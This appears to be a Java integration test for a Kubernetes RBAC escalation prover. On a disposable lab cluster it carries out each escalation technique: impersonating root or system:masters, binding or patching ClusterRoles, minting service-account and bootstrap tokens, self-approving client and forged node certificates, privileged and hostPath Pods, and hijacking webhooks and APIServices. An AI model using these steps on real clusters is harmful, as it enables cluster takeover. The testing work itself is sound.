package dev.minato.fidelity.rights;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.minato.fidelity.lab.Checkout;
import dev.minato.fidelity.lab.Lab;
import dev.minato.live.ApiAnswer;
import dev.minato.live.ApiClient;
import dev.minato.objects.tree.MapValue;
import dev.minato.prove.kube.rbac.Goal;
import dev.minato.prove.kube.rbac.Power;
import dev.minato.prove.kube.rbac.Step;
import io.fabric8.kubernetes.client.Config;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Base64;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

/**
 * Each kind of step tried on a real cluster: somebody who has nothing but its rules takes it and has the rights. What
 * needs a kubelet (getting into a Pod, what a node's root has) is not here: nothing runs in the lab's Pods.
 *
 * <p>Why it is long: one short trial for each of the prover's kinds of step, and they share one cluster.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
final class EscalationOnLabTest {
    private static final String RBAC = "rbac.authorization.k8s.io";
    private static final String ROBOT_IS_ADMIN = """
        {apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRoleBinding, metadata: {name: robot-is-admin},
         subjects: [{kind: ServiceAccount, name: robot, namespace: trials},
                    {apiGroup: rbac.authorization.k8s.io, kind: User, name: root}],
         roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}}
        """;
    private static final Goal ROBOT = Goal.becomes("trials", "robot");
    private static final String SECRETS = "/api/v1/namespaces/trials/secrets";

    @TempDir
    private static Path folder;

    private Lab lab;
    private ApiClient admin;

    @BeforeAll
    void startTheLab() throws Exception {
        assumeTrue("1".equals(System.getenv("MINATO_LAB")), "MINATO_LAB is not 1: no real Kubernetes is started");
        lab = Lab.start(Checkout.home(), folder.resolve("lab"), 1);
        admin = ApiClient.connect(Config.fromKubeconfig(lab.kubeconfig().toFile()), Duration.ofSeconds(30));
        for (String yaml : new String[] {
            "{apiVersion: v1, kind: Namespace, metadata: {name: trials}}",
            "{apiVersion: v1, kind: ServiceAccount, metadata: {name: robot, namespace: trials}}",
            "{apiVersion: v1, kind: ServiceAccount, metadata: {name: other, namespace: trials}}"
        }) {
            ApiAnswer answer = Trial.send(
                    admin,
                    "POST",
                    Trial.path(Trial.object(yaml)),
                    "application/json",
                    Trial.object(yaml).tree());
            assertThat(answer.code()).as("%s", answer.tree()).isEqualTo(201);
        }
    }

    @AfterAll
    void stopTheLab() {
        if (admin != null) {
            admin.close();
            lab.close();
        }
    }

    private Trial trial(String name, String rules, String... more) {
        String[] all = new String[more.length + 1];
        all[0] = ROBOT_IS_ADMIN;
        System.arraycopy(more, 0, all, 1, more.length);
        return new Trial(lab, admin, name, rules, all);
    }

    private static String rule(String verbs, String group, String resources) {
        return "{verbs: [%s], apiGroups: ['%s'], resources: [%s]}".formatted(verbs, group, resources);
    }

    private static String rule(String verbs, String group, String resources, String names) {
        return "{verbs: [%s], apiGroups: ['%s'], resources: [%s], resourceNames: [%s]}"
                .formatted(verbs, group, resources, names);
    }

    private static void done(ApiAnswer answer) {
        assertThat(answer.code()).as("%s", answer.tree()).isIn(200, 201);
    }

    @Test
    void actingAsAUser() {
        try (Trial trial = trial("impersonate-user", rule("impersonate", "", "users", "root"))) {
            trial.proves(Step.Kind.IMPERSONATE, Goal.CLUSTER_ADMIN);
            Trial.isAdministrator(trial.eve(), "root");
        }
    }

    @Test
    void actingInAGroup() {
        String rules = rule("impersonate", "", "users", "nobody") + ","
                + rule("impersonate", "", "groups", "'system:masters'");
        try (Trial trial = trial("impersonate-group", rules)) {
            trial.proves(Step.Kind.IMPERSONATE, Goal.CLUSTER_ADMIN);
            Trial.isAdministrator(trial.eve(), "nobody", "system:masters");
        }
    }

    @Test
    void actingAsAServiceAccount() {
        try (Trial trial = trial("impersonate-account", rule("impersonate", "", "serviceaccounts", "robot"))) {
            trial.proves(Step.Kind.IMPERSONATE, ROBOT);
            Trial.isAdministrator(trial.eve(), "system:serviceaccount:trials:robot");
        }
    }

    private static final String BINDING_OF = """
        {apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRoleBinding, metadata: {name: %s-made},
         subjects: [{kind: ServiceAccount, name: %s, namespace: trials}],
         roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}}
        """;

    @Test
    void bindingARole() {
        String rules =
                rule("create", RBAC, "clusterrolebindings") + "," + rule("bind", RBAC, "clusterroles", "cluster-admin");
        try (Trial trial = trial("bind", rules)) {
            trial.proves(Step.Kind.BIND, Goal.CLUSTER_ADMIN);
            done(trial.eve(BINDING_OF.formatted("bind", "bind")));
            Trial.isAdministrator(trial.eve(), "");
        }
    }

    @Test
    void withoutTheRightToBindTheBindingIsRefused() {
        try (Trial trial = trial("no-bind", rule("create", RBAC, "clusterrolebindings"))) {
            ApiAnswer answer = trial.eve(BINDING_OF.formatted("no-bind", "no-bind"));
            assertThat(answer.message()).contains("attempting to grant RBAC permissions not currently held");
        }
    }

    @Test
    void writingIntoARole() {
        String rules = rule("escalate, patch", RBAC, "clusterroles", "escalate");
        try (Trial trial = trial("escalate", rules)) {
            trial.proves(Step.Kind.ESCALATE, Goal.CLUSTER_ADMIN);
            done(trial.eve(
                    "PATCH",
                    "/apis/" + RBAC + "/v1/clusterroles/escalate",
                    "application/merge-patch+json",
                    "{rules: [{verbs: ['*'], apiGroups: ['*'], resources: ['*']}]}"));
            Trial.isAdministrator(trial.eve(), "");
        }
    }

    @Test
    void writingIntoWhatARoleGathers() {
        String gatherer = """
            {apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRole, metadata: {name: gatherer},
             aggregationRule: {clusterRoleSelectors: [{matchLabels: {gather: 'yes'}}]}}
            """;
        String binding = BINDING_OF.formatted("gather", "gather").replace("cluster-admin", "gatherer");
        try (Trial trial = trial("gather", rule("escalate, create", RBAC, "clusterroles"), gatherer, binding)) {
            trial.proves(Step.Kind.ESCALATE, Goal.CLUSTER_ADMIN);
            done(trial.eve("""
                {apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRole,
                 metadata: {name: gathered, labels: {gather: 'yes'}},
                 rules: [{verbs: ['*'], apiGroups: ['*'], resources: ['*']}]}
                """));
            Trial.isAdministrator(trial.eve(), "");
        }
    }

    @Test
    void askingForAToken() {
        try (Trial trial = trial("token", rule("create", "", "serviceaccounts/token", "robot"))) {
            trial.proves(Step.Kind.REQUEST_TOKEN, ROBOT);
            try (ApiClient robot = trial.with(Trial.token(trial.eve(), "robot"))) {
                Trial.isAdministrator(robot, "");
            }
        }
    }

    private static String tokenSecret(String name, String account) {
        return "{apiVersion: v1, kind: Secret, type: kubernetes.io/service-account-token, metadata: {name: %s, namespace: trials, annotations: {kubernetes.io/service-account.name: %s}}}"
                .formatted(name, account);
    }

    /** Reads the Secret until the controller has put a token of the account into it. */
    private static void hasToken(Trial trial, String secret, String account) {
        for (int i = 0; i < 100; i++) {
            ApiAnswer answer =
                    Trial.retried(() -> trial.eve().get(SECRETS + "/" + secret).join());
            String token = answer.code() == 200 ? answer.tree().textOrEmpty("data", "token") : "";
            String text = new String(Base64.getDecoder().decode(token), StandardCharsets.UTF_8);
            String claims = text.isEmpty()
                    ? ""
                    : new String(Base64.getUrlDecoder().decode(text.split("[.]", -1)[1]), StandardCharsets.UTF_8);
            if (claims.contains("system:serviceaccount:trials:" + account)) {
                try (ApiClient robot = trial.with(text)) {
                    Trial.isAdministrator(robot, "");
                }
                return;
            }
            Trial.pause();
        }
        throw new AssertionError("no token of " + account + " came into " + secret);
    }

    @Test
    void readingASecretWithAToken() {
        try (Trial trial = trial("read-secret", rule("get", "", "secrets", "robots"), tokenSecret("robots", "robot"))) {
            trial.proves(Step.Kind.READ_TOKEN_SECRET, ROBOT);
            hasToken(trial, "robots", "robot");
        }
    }

    @Test
    void makingASecretForAToken() {
        String rules = rule("create", "", "secrets") + "," + rule("get", "", "secrets", "mine");
        try (Trial trial = trial("make-secret", rules)) {
            trial.proves(Step.Kind.MAKE_TOKEN_SECRET, ROBOT);
            done(trial.eve(tokenSecret("mine", "robot")));
            hasToken(trial, "mine", "robot");
        }
    }

    @Test
    void changingASecretWithAToken() {
        try (Trial trial =
                trial("change-secret", rule("get, patch", "", "secrets", "others"), tokenSecret("others", "other"))) {
            trial.proves(Step.Kind.CHANGE_TOKEN_SECRET, ROBOT);
            done(trial.eve(
                    "PATCH",
                    SECRETS + "/others",
                    "application/merge-patch+json",
                    "{metadata: {annotations: {kubernetes.io/service-account.name: robot,"
                            + " kubernetes.io/service-account.uid: null}}, data: null}"));
            hasToken(trial, "others", "robot");
        }
    }

    @Test
    void aBootstrapToken() {
        String join = """
            {apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRoleBinding, metadata: {name: join},
             subjects: [{apiGroup: rbac.authorization.k8s.io, kind: Group, name: 'system:bootstrappers:ops'}],
             roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}}
            """;
        try (Trial trial = trial("bootstrap", rule("create", "", "secrets"), join)) {
            trial.proves(Step.Kind.MAKE_BOOTSTRAP_TOKEN, Goal.CLUSTER_ADMIN);
            done(trial.eve("""
                {apiVersion: v1, kind: Secret, type: bootstrap.kubernetes.io/token,
                 metadata: {name: bootstrap-token-abcdef, namespace: kube-system},
                 stringData: {token-id: abcdef, token-secret: 0123456789abcdef, usage-bootstrap-authentication: 'true',
                              auth-extra-groups: 'system:bootstrappers:ops'}}
                """));
            try (ApiClient joined = trial.with("abcdef.0123456789abcdef")) {
                for (int i = 0; i < 50 && joined.get("/api").join().code() == 401; i++) {
                    Trial.pause();
                }
                Trial.isAdministrator(joined, "");
            }
        }
    }

    private static String pod(String name, String more) {
        return "{apiVersion: v1, kind: Pod, metadata: {name: %s, namespace: trials}, spec: {serviceAccountName: robot, containers: [{name: c, image: c%s}]}}"
                .formatted(name, more);
    }

    private static void runsAsRobot(ApiAnswer answer) {
        done(answer);
        assertThat(answer.tree().textOrEmpty("spec", "serviceAccountName")).isEqualTo("robot");
        assertThat(answer.tree().list("spec", "volumes").toJson()).contains("serviceAccountToken");
    }

    @Test
    void aPodThatRunsAsAnother() {
        try (Trial trial = trial("run-pod", rule("create", "", "pods"))) {
            trial.proves(Step.Kind.RUN_POD, ROBOT);
            runsAsRobot(trial.eve(pod("made", "")));
        }
    }

    @Test
    void aPodOfAGivenNameByApply() {
        try (Trial trial = trial("apply-pod", rule("create, patch", "", "pods", "applied"))) {
            trial.proves(Step.Kind.RUN_POD, ROBOT);
            String path = "/api/v1/namespaces/trials/pods/";
            String type = "application/apply-patch+yaml";
            runsAsRobot(trial.eve("PATCH", path + "applied?fieldManager=eve", type, pod("applied", "")));
            ApiAnswer other = Trial.send(
                    trial.eve(),
                    "PATCH",
                    path + "other?fieldManager=eve",
                    type,
                    Trial.object(pod("other", "")).tree());
            assertThat(other.code()).isEqualTo(403);
        }
    }

    @Test
    void aPodThatReachesItsNodeWhereTheLevelIsChanged() {
        MapValue restricted = MapValue.of(
                "metadata", MapValue.of("labels", MapValue.of("pod-security.kubernetes.io/enforce", "restricted")));
        String level = "{apiVersion: v1, kind: Namespace, metadata: {name: trials, labels:"
                + " {pod-security.kubernetes.io/enforce: restricted}}}";
        String rules = rule("create", "", "pods") + "," + rule("patch", "", "namespaces", "trials");
        try (Trial trial = trial("relax", rules, level)) {
            trial.proves(Step.Kind.POD_ON_NODE, new Goal.Gets(new Power.OnNode()));
            done(Trial.send(admin, "PATCH", "/api/v1/namespaces/trials", "application/merge-patch+json", restricted));
            String privileged = pod("privileged", ", securityContext: {privileged: true}");
            assertThat(Trial.send(
                                    trial.eve(),
                                    "POST",
                                    "/api/v1/namespaces/trials/pods",
                                    "application/json",
                                    Trial.object(privileged).tree())
                            .code())
                    .isEqualTo(403);
            done(trial.eve(
                    "PATCH",
                    "/api/v1/namespaces/trials",
                    "application/merge-patch+json",
                    "{metadata: {labels: {pod-security.kubernetes.io/enforce: null}}}"));
            done(trial.eve(privileged));
        }
    }

    @Test
    void aCertificateOfAnybody() throws Exception {
        String group = "certificates.k8s.io";
        String rules = rule("create", group, "certificatesigningrequests") + ","
                + rule("update", group, "certificatesigningrequests/approval") + ","
                + rule("approve", group, "signers", "kubernetes.io/kube-apiserver-client");
        try (Trial trial = trial("certificate", rules)) {
            trial.proves(Step.Kind.CLIENT_CERTIFICATE, Goal.CLUSTER_ADMIN);
            ApiAnswer made = trial.eve(signingRequest("mine", "/CN=root", "kube-apiserver-client"));
            done(made);
            MapValue approved = made.tree().with("status", approval());
            done(Trial.retried(
                    () -> Trial.send(trial.eve(), "PUT", requests() + "/mine/approval", "application/json", approved)));
            try (ApiClient root = trial.withCertificate(
                    certificate("mine"), folder.resolve("mine.key").toString())) {
                Trial.isAdministrator(root, "");
            }
        }
    }

    @Test
    void theCertificateOfANode() throws Exception {
        String group = "certificates.k8s.io";
        String rules = rule("create", group, "certificatesigningrequests, certificatesigningrequests/nodeclient");
        try (Trial trial = trial("node-certificate", rules)) {
            trial.proves(Step.Kind.NODE_CERTIFICATE, new Goal.Gets(new Power.OnNode()));
            done(trial.eve(
                    signingRequest("node", "/O=system:nodes/CN=system:node:evil", "kube-apiserver-client-kubelet")));
            try (ApiClient node = trial.withCertificate(
                    certificate("node"), folder.resolve("node.key").toString())) {
                MapValue who = Trial.object("{apiVersion: authentication.k8s.io/v1, kind: SelfSubjectReview}")
                        .tree();
                ApiAnswer answer = Trial.send(
                        node, "POST", "/apis/authentication.k8s.io/v1/selfsubjectreviews", "application/json", who);
                assertThat(answer.tree().textOrEmpty("status", "userInfo", "username"))
                        .isEqualTo("system:node:evil");
            }
        }
    }

    @Test
    void aWebhookForEverything() {
        String group = "admissionregistration.k8s.io";
        try (Trial trial = trial("webhook", rule("create", group, "mutatingwebhookconfigurations"))) {
            trial.proves(Step.Kind.ADMISSION_WEBHOOK, Goal.CLUSTER_ADMIN);
            done(trial.eve("""
                {apiVersion: admissionregistration.k8s.io/v1, kind: MutatingWebhookConfiguration, metadata: {name: eves},
                 webhooks: [{name: eve.example.org, sideEffects: None, admissionReviewVersions: [v1], failurePolicy: Ignore,
                             clientConfig: {url: 'https://192.0.2.1/'},
                             rules: [{apiGroups: [example.org], apiVersions: ['*'], operations: ['*'], resources: ['*']}]}]}
                """));
        }
    }

    @Test
    void aWorkloadThatIsChangedToAnotherAccount() {
        String deployment =
                "{apiVersion: apps/v1, kind: Deployment, metadata: {name: web, namespace: trials}, spec: {selector:"
                        + " {matchLabels: {app: web}}, template: {metadata: {labels: {app: web}}, spec:"
                        + " {serviceAccountName: other, containers: [{name: c, image: c}]}}}}";
        try (Trial trial = trial("change-workload", rule("patch", "apps", "deployments", "web"), deployment)) {
            trial.proves(Step.Kind.CHANGE_POD, ROBOT);
            done(trial.eve(
                    "PATCH",
                    "/apis/apps/v1/namespaces/trials/deployments/web",
                    "application/merge-patch+json",
                    "{spec: {template: {spec: {serviceAccountName: robot, serviceAccount: robot}}}}"));
            String pods = "/api/v1/namespaces/trials/pods?labelSelector=app%3Dweb";
            for (int i = 0; i < 100; i++) {
                if (admin.get(pods).join().tree().toJson().contains("\"serviceAccountName\":\"robot\"")) {
                    return;
                }
                Trial.pause();
            }
            throw new AssertionError("no Pod of the Deployment runs as robot");
        }
    }

    private static final String TARGET = "/api/v1/namespaces/trials/pods/target/";

    @Test
    void aContainerInSomebodysPod() {
        String rules = rule("patch", "", "pods/ephemeralcontainers", "target");
        try (Trial trial = trial("debug-pod", rules, pod("target", ""))) {
            trial.proves(Step.Kind.CHANGE_POD, ROBOT);
            done(trial.eve(
                    "PATCH",
                    TARGET + "ephemeralcontainers",
                    "application/strategic-merge-patch+json",
                    "{spec: {ephemeralContainers: [{name: eves, image: eves}]}}"));
        }
    }

    /** Nothing runs there to get into, but the API server would pass it on: it asks for the upgrade of the connection. */
    @Test
    void gettingIntoSomebodysPod() {
        for (String verb : new String[] {"create", "get"}) {
            try (Trial trial = trial("exec-" + verb, rule(verb, "", "pods/exec", "target"), pod("target", ""))) {
                trial.proves(Step.Kind.EXEC_INTO_POD, ROBOT);
                String method = verb.equals("create") ? "POST" : "GET";
                ApiAnswer answer = Trial.retried(() -> trial.eve()
                        .send(new dev.minato.live.ApiCall(method, TARGET + "exec?command=id&stdout=true", "", null, ""))
                        .join());
                assertThat(answer.message()).contains("Upgrade request required");
            }
        }
    }

    /** The kubelet is none, so the API server does not reach it; but it tries. */
    @Test
    void commandingAKubelet() {
        try (Trial trial = trial("node-proxy", rule("get", "", "nodes/proxy"))) {
            trial.proves(Step.Kind.NODE_PROXY, new Goal.Gets(new Power.OnNode()));
            String node = admin.get("/api/v1/nodes")
                    .join()
                    .tree()
                    .list("items")
                    .maps()
                    .getFirst()
                    .textOrEmpty("metadata", "name");
            String denial = "cannot get resource \"nodes/proxy\"";
            String path = "/api/v1/nodes/" + node + "/proxy/pods";
            ApiAnswer answer = trial.eve().get(path).join();
            for (int i = 0; i < 100 && answer.message().contains(denial); i++) {
                Trial.pause();
                answer = trial.eve().get(path).join();
            }
            assertThat(answer.message()).doesNotContain(denial);
        }
    }

    @Test
    void aVolumeOfTheNodesDirectoryInARestrictedNamespace() {
        String level = "{apiVersion: v1, kind: Namespace, metadata: {name: trials-restricted, labels:"
                + " {pod-security.kubernetes.io/enforce: baseline}}}";
        String account =
                "{apiVersion: v1, kind: ServiceAccount, metadata: {name: default, namespace: trials-restricted}}";
        try (Trial trial = trial(
                "volume", rule("create", "", "persistentvolumes, persistentvolumeclaims, pods"), level, account)) {
            trial.proves(Step.Kind.POD_ON_NODE, new Goal.Gets(new Power.OnNode()));
            done(trial.eve("{apiVersion: v1, kind: PersistentVolume, metadata: {name: root}, spec: {capacity:"
                    + " {storage: 1Gi}, accessModes: [ReadWriteOnce], storageClassName: '', hostPath:"
                    + " {path: /}}}"));
            done(trial.eve("{apiVersion: v1, kind: PersistentVolumeClaim, metadata: {name: root, namespace:"
                    + " trials-restricted}, spec: {accessModes: [ReadWriteOnce], storageClassName: '',"
                    + " volumeName: root, resources: {requests: {storage: 1Gi}}}}"));
            done(trial.eve("{apiVersion: v1, kind: Pod, metadata: {name: root, namespace: trials-restricted}, spec:"
                    + " {containers: [{name: c, image: c, volumeMounts: [{name: root, mountPath:"
                    + " /host}]}], volumes: [{name: root, persistentVolumeClaim: {claimName: root}}]}}"));
        }
    }

    @Test
    void aPartOfTheApiThatIsAnsweredByOneself() {
        try (Trial trial = trial("api-service", rule("create", "apiregistration.k8s.io", "apiservices"))) {
            trial.proves(Step.Kind.AGGREGATED_API, Goal.CLUSTER_ADMIN);
            done(trial.eve("{apiVersion: apiregistration.k8s.io/v1, kind: APIService, metadata: {name:"
                    + " v1.trials.example.org}, spec: {group: trials.example.org, version: v1,"
                    + " groupPriorityMinimum: 100, versionPriority: 100, insecureSkipTLSVerify: true,"
                    + " service: {name: eve, namespace: trials}}}"));
        }
    }

    private static String requests() {
        return "/apis/certificates.k8s.io/v1/certificatesigningrequests";
    }

    private static MapValue approval() {
        return Trial.object("{conditions: [{type: Approved, status: 'True', reason: test, message: test}]}")
                .tree();
    }

    private static String signingRequest(String name, String subject, String signer) throws Exception {
        run(
                "openssl",
                "req",
                "-new",
                "-newkey",
                "ec",
                "-pkeyopt",
                "ec_paramgen_curve:prime256v1",
                "-nodes",
                "-subj",
                subject,
                "-keyout",
                folder.resolve(name + ".key").toString(),
                "-out",
                folder.resolve(name + ".csr").toString());
        String request = Base64.getEncoder().encodeToString(Files.readAllBytes(folder.resolve(name + ".csr")));
        return "{apiVersion: certificates.k8s.io/v1, kind: CertificateSigningRequest, metadata: {name: %s}, spec: {request: %s, signerName: kubernetes.io/%s, usages: [digital signature, client auth]}}"
                .formatted(name, request, signer);
    }

    /** The file of the certificate, once it is issued. */
    private String certificate(String name) throws IOException {
        for (int i = 0; i < 100; i++) {
            String text = admin.get(requests() + "/" + name).join().tree().textOrEmpty("status", "certificate");
            if (!text.isEmpty()) {
                return Files.write(
                                folder.resolve(name + ".crt"),
                                Base64.getDecoder().decode(text))
                        .toString();
            }
            Trial.pause();
        }
        throw new AssertionError("no certificate was issued for " + name);
    }

    private static void run(String... command) throws Exception {
        Process process = new ProcessBuilder(command).redirectErrorStream(true).start();
        String out = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertThat(process.waitFor()).as(out).isZero();
    }
}
